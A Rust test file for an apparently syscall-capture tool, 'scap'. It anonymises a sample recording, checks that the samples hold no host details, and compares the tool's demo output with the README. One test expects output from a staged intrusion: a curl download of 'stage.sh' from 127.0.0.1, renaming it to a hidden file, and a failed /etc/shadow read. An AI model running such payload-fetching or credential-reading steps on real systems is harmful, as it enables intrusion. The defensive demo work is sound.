//! The sample capture that comes with scap: how it is made from a recording, and what it may hold.

#![expect(clippy::unwrap_used, reason = "a test that panics fails")]

use std::path::Path;
use std::{env, fs};

use crate::common::{scap, seen};
use scap_capture_format::event::{Tid, Timestamp};
use scap_capture_format::native::section::FileTag;
use scap_capture_format::native::snapshot::{
    FdEntry, GroupEntry, InterfaceEntry, Snapshot, StringId, ThreadEntry, UserEntry,
};
use scap_capture_format::native::{
    CaptureReader, CaptureWriter, ChunkDecoder, Header, Item, Load, WriterOptions,
};

const SAMPLE: &str = "testdata/sample.scap";
/// The one that docs/view.md is about.
const INTRUSION: &str = "testdata/intrusion.scap";

/// Every recording has it in every file, so it has to be small.
const MOST_BYTES: u64 = 60_000;

fn path() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(SAMPLE)
}

/// Rewrites a recording of testdata/sample/session.sh, or of testdata/intrusion/machine.sh, without the
/// machine around it.
#[test]
#[ignore = "makes the sample; testdata/sample/make.sh and testdata/intrusion/make.sh call it"]
fn make_sample() {
    let raw = fs::read(env::var_os("SCAP_SAMPLE_FROM").unwrap()).unwrap();
    let mut reader = CaptureReader::new(&raw[..]).unwrap();
    let options = WriterOptions {
        level: 19,
        file_tag: Some(FileTag(0x5ca9)),
        ..WriterOptions::default()
    };
    let header = anonymous(reader.header());
    let mut writer = CaptureWriter::new(Vec::new(), &header, options).unwrap();
    let mut decoder = ChunkDecoder::new();
    let mut has_snapshot = false;
    while let Some(item) = reader.next_item().unwrap() {
        match item {
            // Later ones hold what the events tell.
            Item::Snapshot(_) if has_snapshot => {}
            Item::Snapshot(snapshot) => {
                has_snapshot = true;
                writer.write_snapshot(&mut reduced(&snapshot)).unwrap();
            }
            Item::Chunk(chunk) => {
                let mut rows = chunk.decode(&mut decoder, Load::ALL).unwrap();
                while let Some(event) = rows.next().unwrap() {
                    writer.push(&event).unwrap();
                }
            }
            Item::Loss(report) => writer.write_loss(&report).unwrap(),
            _ => {}
        }
    }
    assert!(reader.is_complete() && reader.damages().is_empty());
    let to = env::var_os("SCAP_SAMPLE_TO").map_or_else(path, Into::into);
    fs::write(to, writer.finish().unwrap()).unwrap();
}

/// A header that says "demo" of whichever machine it was.
fn anonymous(header: &Header) -> Header {
    let mut header = header.clone();
    let machine = &mut header.machine;
    machine.host_name = "demo".to_owned();
    machine.boot_id = "00000000-0000-4000-8000-000000000000".to_owned();
    machine.memory = 4 << 30;
    let release = machine.kernel_release.split('-').next().unwrap().to_owned();
    machine.kernel_release = release;
    machine.kernel_version = "#1 SMP PREEMPT_DYNAMIC".to_owned();
    header
}

/// The snapshot with nothing but the recorded command, its users and the loopback interface.
fn reduced(from: &Snapshot) -> Snapshot {
    let mut to = Snapshot {
        time: from.time,
        ..Snapshot::default()
    };
    let mut strings = std::mem::take(&mut to.strings);
    let mut keep = |id: StringId| strings.intern(from.string(id));
    let command = |pid| {
        let by_pid = |t: &&ThreadEntry| t.pid == pid;
        let thread = from.threads.iter().find(by_pid).unwrap();
        from.string(thread.args).starts_with(b"__hold\0")
    };
    for thread in from.threads.iter().filter(|t| command(t.pid)) {
        to.threads.push(ThreadEntry {
            comm: keep(thread.comm),
            exe: keep(thread.exe),
            exepath: keep(thread.exepath),
            args: keep(thread.args),
            env: keep(thread.env),
            cwd: keep(thread.cwd),
            root: keep(thread.root),
            cgroups: keep(thread.cgroups),
            container: StringId(0),
            exe_ino: 0,
            exe_ctime: Timestamp(0),
            exe_mtime: Timestamp(0),
            extra: Vec::new(),
            ..thread.clone()
        });
    }
    let known = |tid: Tid| from.threads.iter().any(|t| t.tid == tid && command(t.pid));
    for fd in from.fds.iter().filter(|fd| known(fd.owner)) {
        to.fds.push(FdEntry {
            name: keep(fd.name),
            extra: Vec::new(),
            ..fd.clone()
        });
    }
    for user in from.users.iter().filter(|u| [0, 65_534].contains(&u.uid)) {
        to.users.push(UserEntry {
            container: StringId(0),
            name: keep(user.name),
            home: keep(user.home),
            shell: keep(user.shell),
            ..user.clone()
        });
    }
    for group in from.groups.iter().filter(|g| [0, 65_534].contains(&g.gid)) {
        to.groups.push(GroupEntry {
            container: StringId(0),
            name: keep(group.name),
            ..group.clone()
        });
    }
    for interface in &from.interfaces {
        if from.string(interface.name) == b"lo" {
            to.interfaces.push(InterfaceEntry {
                name: keep(interface.name),
                ..interface.clone()
            });
        }
    }
    to.strings = strings;
    to
}

#[test]
fn the_samples_are_whole_and_of_no_machine() {
    let small = fs::metadata(path()).unwrap().len();
    assert!(small < MOST_BYTES, "{small} bytes");
    is_of_no_machine(&path(), b"/tmp/demo/");
    let intrusion = Path::new(env!("CARGO_MANIFEST_DIR")).join(INTRUSION);
    is_of_no_machine(&intrusion, b"/tmp/shop/");
}

fn is_of_no_machine(path: &Path, cwd: &[u8]) {
    let bytes = fs::read(path).unwrap();
    let mut reader = CaptureReader::new(&bytes[..]).unwrap();
    assert_eq!(reader.header().machine.host_name, "demo");
    let mut snapshots = 0;
    while let Some(item) = reader.next_item().unwrap() {
        let Item::Snapshot(snapshot) = item else {
            continue;
        };
        snapshots += 1;
        // The recorded command as it was held, and nobody else.
        assert_eq!(snapshot.threads.len(), 1);
        let thread = &snapshot.threads[0];
        assert_eq!(snapshot.string(thread.cwd), cwd);
        assert_eq!(snapshot.string(thread.env), b"PATH=/usr/bin:/bin\0TZ=UTC\0");
        assert!(snapshot.users.len() <= 2);
        for interface in &snapshot.interfaces {
            assert_eq!(snapshot.string(interface.name), b"lo");
        }
    }
    assert_eq!(snapshots, 1);
    assert!(reader.is_complete() && reader.damages().is_empty());
}

#[test]
fn no_line_of_the_samples_names_another_place() {
    for sample in [SAMPLE, INTRUSION] {
        let (lines, err, code) = seen(&scap(&["read", sample], None));
        assert_eq!((err.as_str(), code), ("", 0));
        assert!(lines.lines().count() > 1000);
        for line in lines.lines() {
            for foreign in ["/work", "/root/", "/home", "process_api", "bash_"] {
                assert!(!line.contains(foreign), "{line}");
            }
        }
    }
}

#[test]
fn the_account_of_the_sample_tells_its_story() {
    let (out, err, code) = seen(&scap(&["try", "--sample"], None));
    assert_eq!((err.as_str(), code), ("", 0));
    let told = [
        "This is the sample capture",
        "demo, Debian GNU/Linux 12 (bookworm), Linux 6.18",
        "nothing was lost",
        "curl -q -s -o stage.sh http://127.0.0.1:8080/stage.sh",
        "/tmp/demo/stage.sh  created, ",
        "renamed to .cache-update",
        " to 127.0.0.1:8080",
        "killed by SIGKILL",
        "EACCES",
        "/etc/shadow",
        "scap try --sample -w sample.scap",
    ];
    for part in told {
        assert!(out.contains(part), "no {part:?} in\n{out}");
    }
    assert!(out.lines().count() <= 60, "{out}");
    for line in out.lines() {
        assert!(line.chars().count() <= 100, "{line}");
        assert!(!line.chars().any(char::is_control), "{line:?}");
    }
}

#[test]
fn the_readme_shows_what_is_printed() {
    let readme = Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md");
    let readme = fs::read_to_string(readme).unwrap();
    let (account, _, _) = seen(&scap(&["try", "--sample"], None));
    let (events, _, _) = seen(&scap(&["read", "-T", SAMPLE], None));
    let start = readme.find("    demo, Debian").unwrap();
    let shown = readme[start..].split("## Install").next().unwrap();
    let mut compared = 0;
    for line in shown.lines().filter_map(|l| l.strip_prefix("    ")) {
        if line.trim() == "…" || line.starts_with('$') {
            continue;
        }
        let there = account.lines().chain(events.lines()).any(|l| l == line);
        assert!(there, "{line:?} is not printed");
        compared += 1;
    }
    assert!(compared > 10);
}

#[test]
fn the_sample_can_be_kept() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("kept.scap");
    let name = file.to_str().unwrap();
    let (out, _, code) = seen(&scap(&["try", "--sample", "-w", name], None));
    assert_eq!(code, 0);
    assert!(out.contains(&format!("scap read -T {name}")), "{out}");
    assert_eq!(fs::read(&file).unwrap(), fs::read(path()).unwrap());
}
